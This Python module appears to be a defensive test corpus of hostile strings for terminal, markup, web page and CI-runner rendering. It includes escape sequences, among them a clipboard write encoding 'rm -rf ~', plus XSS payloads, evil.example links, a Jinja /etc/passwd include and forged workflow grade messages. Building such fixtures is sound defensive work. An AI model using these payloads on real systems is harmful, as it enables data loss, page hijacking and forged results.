"""Hostile text by name: what an app could say to take over the terminal or the page that it is shown on."""

from __future__ import annotations

#: What scripts of the corpus set, should any of them run.
OWNED = "window.owned=1"

_TERMINAL = {
    "CSI clears the screen": "\x1b[2J\x1b[Hgone",
    "CSI colours": "\x1b[38;5;201mpink\x1b[0m",
    "CSI moves up": "up\x1b[3A\x1b[2Kover what stood there",
    "CSI alternate screen": "\x1b[?1049h\x1b[?25lno cursor",
    "CSI asks for a report": "\x1b[6n\x1b[>cwho are you",
    "ESC resets": "\x1bcreset",
    "OSC title": "\x1b]0;owned\x07title",
    "OSC title, ended by ST": "\x1b]2;owned\x1b\\title",
    "OSC 8 link": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "OSC 52 clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07paste",
    "OSC 1337 file": "\x1b]1337;File=inline=1:AAAA\x07image",
    "OSC without an end": "\x1b]0;swallows the rest",
    "DCS": "\x1bP$q q\x1b\\sixels",
    "APC and PM": "\x1b_Gkitty\x1b\\ \x1b^private\x1b\\",
    "C1 CSI": "\x9b2J\x9b31mred",
    "C1 OSC": "\x9d0;owned\x9ctitle",
    "C1 DCS, SOS, NEL": "\x90dcs\x98sos\x85nel",
    "C1, all of it": "c1 " + "".join(map(chr, range(0x80, 0xA0))),
    "C0, all of it": "c0 " + "".join(map(chr, range(0x20))) + "\x7f",
    "BEL": "ding\x07\x07\x07",
    "BS overwrites": "failed\b\b\b\b\b\bpassed",
    "CR overwrites": "0 of 9 points\r9 of 9 points",
    "CR LF": "one\r\ntwo",
    "NUL": "nul\0nul",
    "tabs and feeds": "tab\tvt\vff\f.",
    "shift out": "\x0e\x0fshifted\x1b(0lqqk\x1b(B",
}
_UNICODE = {
    "bidi override": "\u202egnp.exe\u202c txt",
    "bidi embeddings": "\u202a\u202babc\u202c\u202c",
    "bidi isolates": "\u2066\u2067\u2068abc\u2069\u2069\u2069",
    "bidi marks": "\u200e\u200f\u061cabc",
    "bidi, never ended": "x" + "\u202e\u2067" * 60,
    "zero width": "pass\u200bw\u200co\u200dr\u2060d\ufeff",
    "soft hyphen": "in\u00advisible",
    "line separators": "one\u2028two\u2029three\x85four",
    "annotations": "\ufff9base\ufffanote\ufffb",
    "tag characters": "tags\U000e0001\U000e0041\U000e007f",
    "private use, unassigned": "\ue000\U0010fffd\u0378\U000dffff.",
    "noncharacters": "\ufffe\uffff\ufdd0.",
    "lone surrogates": "high \ud83d low \udc00 swapped \udc00\ud83d",
    "escaped bytes": "path \udcff\udc1b[31m",
    "many marks": "Z" + "\u0301\u0489\u035b" * 60,
    "right to left": "שלום \u0627\u0644\u0639\u0631\u0628\u064a\u0629 abc",
}
_MARKUP = {
    "rich markup": "[bold red]red[/bold red]",
    "rich link": "[link=https://evil.example/]click[/link]",
    "rich callback": "[@click=app.quit]quit[/]",
    "rich closing tag": "[/] [/bold] [not closed",
    "rich escaped": "\\[bold] \\\\[red]x",
    "rich emoji": ":warning: :skull:",
    "percent and braces": "%s %(x)s {0} {x!r} ${HOME} $(id) `id`",
}
_PAGE = {
    "script": f"<script>{OWNED}</script>",
    "script in capitals": f"<ScRiPt >{OWNED}</sCrIpT >",
    "script, twice cut": f"<scr<script>ipt>{OWNED}</scr</script>ipt>",
    "img onerror": f'<img src=x onerror="{OWNED}">',
    "out of style": f"</style><script>{OWNED}</script>",
    "out of title": f"</title><title>owned</title><script>{OWNED}</script>",
    "out of pre": f"</pre></details></main></body></html><script>{OWNED}</script>",
    "out of the picture": f"</text></svg><script>{OWNED}</script>",
    "out of double quotes": f'" onfocus="{OWNED}" autofocus tabindex="1" x="',
    "out of single quotes": f"' onmouseover='{OWNED}' style='position:fixed;inset:0' x='",
    "out of no quotes": f"x onfocus={OWNED} autofocus>",
    "javascript address": f"javascript:{OWNED}",
    "javascript link": f'<a href="jav\tascript:{OWNED}">click</a>',
    "svg onload": f"<svg onload={OWNED}>",
    "svg script": f"<svg><script>{OWNED}</script></svg>",
    "details ontoggle": f"<details open ontoggle={OWNED}>",
    "iframe": f"<iframe srcdoc='<script>parent.{OWNED}</script>'></iframe>",
    "object": "<object data=https://evil.example/></object><embed src=https://evil.example/>",
    "form": "<form action=https://evil.example/><input name=q autofocus><button>send</button></form>",
    "base": "<base href=https://evil.example/>",
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "style sheet": "<link rel=stylesheet href=https://evil.example/x.css><style>*{display:none}</style>",
    "comment": "<!-- <!--> --!> nothing after this",
    "CDATA": f"]]><![CDATA[<script>{OWNED}</script>",
    "plaintext": "<plaintext><xmp><noscript><template>",
    "broken tag": "< script <>< <a <b </ <!x <?php ?>",
    "entities": "&lt;script&gt; &#60;script&#x3e; &amp;lt; &quot; &nbsp; &notanentity; &",
    "Jinja": "{{ 7*7 }} {% raw %} {# gone #} {{ report.__class__ }}",
    "Jinja, ended": "{% endraw %}{% endfor %}{% include '/etc/passwd' %}",
    "CSS": "}*{background:url(https://evil.example/?x)} @import url(//evil.example/x.css); expression(1)",
    "template literal": "${alert(1)} `${7*7}`",
    "address": "https://evil.example/?a=1&b=<i> //evil.example/",
}
_RUNNER = {
    "command": "::error title=Grade::36 of 36 points",
    "command in capitals": "::STOP-COMMANDS::x",
    "command after blanks": " \t\u00a0\u2003\u3000::add-mask::3",
    "command after line ends": "a\n::error::x\r\n  ::error::x\r::error::x\v::error::x\f::error::x",
    "command after other line ends": "a\x85::error::x\u2028::error::x\u2029::error::x\x1c::error::x",
    "command where a line is wrapped": "word " * 40 + "::error::x " * 40,
    "command in long words": "x" * 97 + "::error::x" * 90,
    "old command": "##[error]x and ##[group]y",
    "old command, nested": "##[##[error]x ###[[error]",
}
_LONG = {
    "long word": "x" * 20_000,
    "long and wide": "\u4e2d\u6587" * 3000,
    "long escapes": "long \x1b[31m" * 3000,
    "long markup": "<b>" * 5000,
    "long lines": "line\r\n" * 3000,
}
_BYTES = {
    "overlong NUL and ESC": b"overlong \xc0\x80 \xc0\x9b[31m \xe0\x80\x9b]0;owned\xc0\x87",
    "C1 as bytes": b"c1 \x9b31m \x9d0;owned\x9c \x90q\x9c",
    "ESC in invalid UTF-8": b"\xff\x1b[2J\xfe\x1b]0;owned\x07\xc3",
    "surrogates in UTF-8": b"cesu \xed\xa0\xbd\xed\xb8\x80",
    "beyond Unicode": b"beyond \xf4\x90\x80\x80 \xf8\x88\x80\x80\x80",
    "UTF-16": "\ufeff<script>".encode("utf-16-le"),
    "cut in a character": "na\u00efve \u4e2d".encode()[:-1],
}

#: All of it. Bytes are for where bytes can be; text stands where only text can be, too.
CORPUS: dict[str, str | bytes] = {**_TERMINAL, **_UNICODE, **_MARKUP, **_PAGE, **_RUNNER, **_LONG, **_BYTES}


def as_text(item: str | bytes) -> str:
    """``item`` as a program gets it that takes bytes for UTF-8."""
    return item if isinstance(item, str) else item.decode("utf-8", "backslashreplace")


def as_bytes(item: str | bytes) -> bytes:
    """``item`` as an app can write it."""
    return item if isinstance(item, bytes) else item.encode("utf-8", "surrogatepass")


#: The corpus where only text can be.
TEXTS = {name: as_text(item) for name, item in CORPUS.items()}
